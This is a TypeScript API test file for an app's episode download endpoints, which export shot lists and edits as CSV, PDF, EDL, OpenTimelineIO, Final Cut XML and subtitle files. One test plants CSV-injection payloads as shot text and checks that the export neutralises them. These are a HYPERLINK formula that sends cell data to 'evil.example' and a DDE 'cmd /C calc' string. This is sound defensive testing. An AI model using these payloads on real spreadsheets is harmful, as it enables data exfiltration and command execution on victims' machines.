import { inflateSync } from 'node:zlib';
import { PDFDocument } from 'pdf-lib';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { tracks, voiceClips } from '../src/db/schema.ts';
import { DOCUMENT_WINDOW_SECONDS } from '../src/media/media-access.ts';
import { fcpxmlSeconds, validateFcpxml } from './helpers/fcpxml-dtd.ts';
import { errorOf, rowFixtures, useTestServer } from './helpers/fixtures.ts';

const server = useTestServer();
const fixtures = rowFixtures(server);

/** An episode of three shots, the first with a stored image, plus a music track. */
async function scenarioWithShots(userId: string, name = 'Pilot, "night" – 東京') {
  const project = await fixtures.project(userId);
  const scenario = await fixtures.scenario(project.id, userId, { name });
  const key = `${'b'.repeat(30)}${Date.now().toString(36)}.png`;
  const png = await sharp({ create: { width: 320, height: 180, channels: 3, background: '#884422' } })
    .png()
    .toBuffer();
  await server.services.files.put(userId, key, png, 'image/png');
  await fixtures.shot(scenario.id, 1, { description: 'Hero enters, slowly', imageUrl: `/media/${key}`, duration: 2 });
  await fixtures.shot(scenario.id, 2, { description: 'Close on the door', type: 'close', cameraMotion: 'pan_left' });
  await fixtures.shot(scenario.id, 3, { description: 'Wide city', type: 'wide', duration: 1.5 });
  return { scenario, key };
}

const path = (id: string, format: string) => `/api/scenarios/${id}/download/${format}`;

/** A stored image's link in a document: absolute, signed for the document window (opened later, outside the app). */
const documentLink = (key: string) =>
  new URL(server.services.mediaAccess.signedAddress(key, DOCUMENT_WINDOW_SECONDS), server.config.PUBLIC_URL).toString();

async function download(id: string, format: string, token: string) {
  const response = await fetch(`${server.url}${path(id, format)}`, { headers: { authorization: `Bearer ${token}` } });
  return { response, bytes: Buffer.from(await response.arrayBuffer()) };
}

describe('episode downloads', () => {
  it('sends the shot list as CSV with a BOM, absolute image urls and a safe file name', async () => {
    const owner = await server.register();
    const { scenario, key } = await scenarioWithShots(owner.user.id);
    const { response, bytes } = await download(scenario.id, 'csv', owner.accessToken);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toBe(
      `attachment; filename="Pilot, night _ __ - shot list.csv"; filename*=UTF-8''${encodeURIComponent('Pilot, night – 東京 - shot list.csv')}`,
    );
    const text = bytes.toString('utf8');
    expect(text.startsWith('\uFEFF')).toBe(true);
    const lines = text.slice(1).trimEnd().split('\r\n');
    expect(lines).toEqual([
      'Shot,Image URL,Type,Camera motion,Duration (s),Description',
      `1,${documentLink(key)},Medium,Auto,2,"Hero enters, slowly"`,
      '2,,Close-up,Pan left,4,Close on the door',
      '3,,Wide,Auto,1.5,Wide city',
    ]);
    // The link opens the image without a session; the same address unsigned does not.
    const linked = new URL(documentLink(key));
    expect((await fetch(`${server.url}${linked.pathname}${linked.search}`)).status).toBe(200);
    expect((await fetch(`${server.url}${linked.pathname}`)).status).toBe(404);
  });

  it('sends formula-like shot text as text a spreadsheet will not run (CSV injection)', async () => {
    const owner = await server.register();
    const project = await fixtures.project(owner.user.id);
    const scenario = await fixtures.scenario(project.id, owner.user.id, { name: 'Formulas' });
    await fixtures.shot(scenario.id, 1, { description: '=HYPERLINK("https://evil.example/?"&A1,"Open")' });
    await fixtures.shot(scenario.id, 2, { description: "@SUM(1+1)*cmd|' /C calc'!A0" });
    const { bytes } = await download(scenario.id, 'csv', owner.accessToken);
    const lines = bytes.toString('utf8').slice(1).trimEnd().split('\r\n');
    expect(lines.slice(1)).toEqual([
      `1,,Medium,Auto,4,"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")"`,
      `2,,Medium,Auto,4,'@SUM(1+1)*cmd|' /C calc'!A0`,
    ]);
  });

  it('sends a PDF with the shots and the stored image embedded', async () => {
    const owner = await server.register();
    const { scenario } = await scenarioWithShots(owner.user.id, 'Pilot');
    const { response, bytes } = await download(scenario.id, 'pdf', owner.accessToken);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('application/pdf');
    expect(response.headers.get('content-disposition')).toContain('filename="Pilot - shot list.pdf"');
    const pdf = await PDFDocument.load(bytes);
    expect(pdf.getPageCount()).toBe(1);
    expect(bytes.toString('latin1')).toContain('/Subtype /Image');
    const drawn = [...bytes.toString('latin1').matchAll(/stream\r?\n/g)]
      .map((match) => {
        const start = match.index + match[0].length;
        try {
          return inflateSync(bytes.subarray(start, bytes.indexOf('endstream', start))).toString('latin1');
        } catch {
          return '';
        }
      })
      .join('');
    const hex = (text: string) => `<${Buffer.from(text, 'latin1').toString('hex').toUpperCase()}>`;
    for (const text of ['Hero enters, slowly', 'Close on the door', 'Wide city']) expect(drawn).toContain(hex(text));
  });

  it('sends the edit as a CMX 3600 EDL, as OpenTimelineIO, as Final Cut Pro XML and as FCP7 XML', async () => {
    const owner = await server.register();
    // The edit for an editing suite is advanced export, the professional edition's (feature-gates.api.test.ts).
    await fixtures.setUserTier(owner.user.id, 'motionmaker');
    const { scenario, key } = await scenarioWithShots(owner.user.id, 'Pilot');
    const edl = await download(scenario.id, 'edl', owner.accessToken);
    expect(edl.response.status).toBe(200);
    expect(edl.response.headers.get('content-type')).toBe('text/plain; charset=utf-8');
    expect(edl.response.headers.get('content-disposition')).toContain('filename="Pilot.edl"');
    const events = edl.bytes
      .toString('utf8')
      .split('\r\n')
      .filter((line) => /^\d{3} /.test(line));
    expect(events).toEqual([
      '001  SHOT001  V     C        00:00:00:00 00:00:02:00 00:00:00:00 00:00:02:00',
      '002  SHOT002  V     C        00:00:00:00 00:00:04:00 00:00:02:00 00:00:06:00',
      '003  SHOT003  V     C        00:00:00:00 00:00:01:15 00:00:06:00 00:00:07:15',
    ]);
    expect(edl.bytes.toString('utf8')).toContain(`* FROM CLIP NAME: ${key}`);

    const otio = await download(scenario.id, 'otio', owner.accessToken);
    expect(otio.response.status).toBe(200);
    expect(otio.response.headers.get('content-type')).toBe('application/json; charset=utf-8');
    expect(otio.response.headers.get('content-disposition')).toContain('filename="Pilot.otio"');
    const timeline = JSON.parse(otio.bytes.toString('utf8')) as {
      OTIO_SCHEMA: string;
      tracks: { children: { kind: string; children: { media_reference: { target_url?: string } }[] }[] };
    };
    expect(timeline.OTIO_SCHEMA).toBe('Timeline.1');
    const video = timeline.tracks.children[0]!;
    expect(video.kind).toBe('Video');
    expect(video.children).toHaveLength(3);
    expect(video.children[0]!.media_reference.target_url).toBe(documentLink(key));

    const fcpxml = await download(scenario.id, 'fcpxml', owner.accessToken);
    expect(fcpxml.response.status).toBe(200);
    expect(fcpxml.response.headers.get('content-type')).toBe('application/xml; charset=utf-8');
    expect(fcpxml.response.headers.get('content-disposition')).toContain('filename="Pilot.fcpxml"');
    const xml = fcpxml.bytes.toString('utf8');
    expect(await validateFcpxml(xml)).toEqual({ valid: true, errors: '' });
    expect(xml).toContain(`src="${documentLink(key).replaceAll('&', '&amp;')}"`);
    // Every edit file lasts as long as the episode, 2 + 4 + 1.5 s (the EDL's last event ends at 00:00:07:15).
    expect(fcpxmlSeconds(/<sequence[^>]*duration="([^"]+)"/.exec(xml)![1]!)).toBeCloseTo(7.5, 6);
    const otioFrames = video.children.reduce(
      (sum, clip) =>
        sum + (clip as unknown as { source_range: { duration: { value: number } } }).source_range.duration.value,
      0,
    );
    expect(otioFrames / 30).toBeCloseTo(7.5, 6);

    const premiere = await download(scenario.id, 'fcp7', owner.accessToken);
    expect(premiere.response.status).toBe(200);
    expect(premiere.response.headers.get('content-disposition')).toContain('filename="Pilot (Premiere).xml"');
    expect(premiere.bytes.toString('utf8')).toMatch(
      /<xmeml version="4">\n<sequence id="sequence-1"><name>Pilot<\/name><duration>225<\/duration>/,
    );
  });

  it('sends the spoken lines as SubRip and WebVTT subtitles where the timeline plays them', async () => {
    const owner = await server.register();
    // Subtitle files come with the base edition.
    const { scenario } = await scenarioWithShots(owner.user.id, 'Pilot');
    const [track] = await server.database.db
      .insert(tracks)
      .values({ scenarioId: scenario.id, name: 'Voices', kind: 'voice', position: 0 })
      .returning();
    const clip = (text: string, startOffset: number, duration: number | null, status = 'ready') => ({
      scenarioId: scenario.id,
      trackId: track!.id,
      text,
      startOffset,
      duration,
      status,
      audioUrl:
        duration === null ? null : `/media/${'c'.repeat(30)}${Date.now().toString(36)}${startOffset * 1000}.wav`,
    });
    const lines = [
      clip('The tide is\n\ncoming in.', 0.5, 1.25),
      clip('Hold the rope.', 3.04, 2.2),
      clip('Not spoken yet.', 5.5, null, 'pending'),
      // The episode is 7.5 s long (2 + 4 + 1.5): this line is cut at its end.
      clip('Too late.', 6.8, 2),
    ];
    // Each spoken line's audio is a stored file of the owner's (stored files have one owner).
    for (const line of lines) {
      if (line.audioUrl)
        await server.services.files.put(
          owner.user.id,
          line.audioUrl.slice('/media/'.length),
          Buffer.from('RIFF'),
          'audio/wav',
        );
    }
    await server.database.db.insert(voiceClips).values(lines);
    const expected = [
      { start: 0.5, end: 1.75, text: 'The tide is\ncoming in.' },
      { start: 3.04, end: 5.24, text: 'Hold the rope.' },
      { start: 6.8, end: 7.5, text: 'Too late.' },
    ];
    const seconds = (time: string) => {
      const [h, m, s] = time.replace(',', '.').split(':').map(Number);
      return h! * 3600 + m! * 60 + s!;
    };
    const cuesOf = (text: string) =>
      [...text.matchAll(/(\d\d:\d\d:\d\d[.,]\d{3}) --> (\d\d:\d\d:\d\d[.,]\d{3})\n([^]*?)\n(?:\n|$)/g)].map(
        ([, start, end, body]) => ({ start: seconds(start!), end: seconds(end!), text: body! }),
      );
    const matches = (cues: { start: number; end: number; text: string }[]) => {
      expect(cues.map((cue) => cue.text)).toEqual(expected.map((cue) => cue.text));
      cues.forEach((cue, index) => {
        expect(Math.abs(cue.start - expected[index]!.start)).toBeLessThanOrEqual(0.05);
        expect(Math.abs(cue.end - expected[index]!.end)).toBeLessThanOrEqual(0.05);
      });
    };

    const files = [
      {
        format: 'srt',
        contentType: 'application/x-subrip; charset=utf-8',
        opening: '1\n00:00:00,500 --> 00:00:01,750\n',
      },
      { format: 'vtt', contentType: 'text/vtt; charset=utf-8', opening: 'WEBVTT\n\n00:00:00.500 --> 00:00:01.750\n' },
    ];
    for (const { format, contentType, opening } of files) {
      const { response, bytes } = await download(scenario.id, format, owner.accessToken);
      expect(response.status).toBe(200);
      expect(response.headers.get('content-type')).toBe(contentType);
      expect(response.headers.get('content-disposition')).toContain(`filename="Pilot.${format}"`);
      const text = bytes.toString('utf8');
      expect(text.startsWith(opening), format).toBe(true);
      matches(cuesOf(text));
    }
  });

  it('answers 401 without a session, 404 to a stranger or an unknown episode and 422 to an unknown format', async () => {
    const owner = await server.register();
    const stranger = await server.register();
    const { scenario } = await scenarioWithShots(owner.user.id, 'Pilot');
    expect((await server.request('GET', path(scenario.id, 'csv'))).status).toBe(401);
    expect(
      errorOf(await server.request('GET', path(scenario.id, 'csv'), { token: stranger.accessToken }), 404).message,
    ).toBe('Episode not found');
    const unknown = '00000000-0000-4000-8000-000000000000';
    expect((await server.request('GET', path(unknown, 'pdf'), { token: owner.accessToken })).status).toBe(404);
    const invalid = errorOf(await server.request('GET', path(scenario.id, 'mp3'), { token: owner.accessToken }), 422);
    expect(invalid.details?.map((detail) => detail.field)).toEqual(['format']);
  });
});
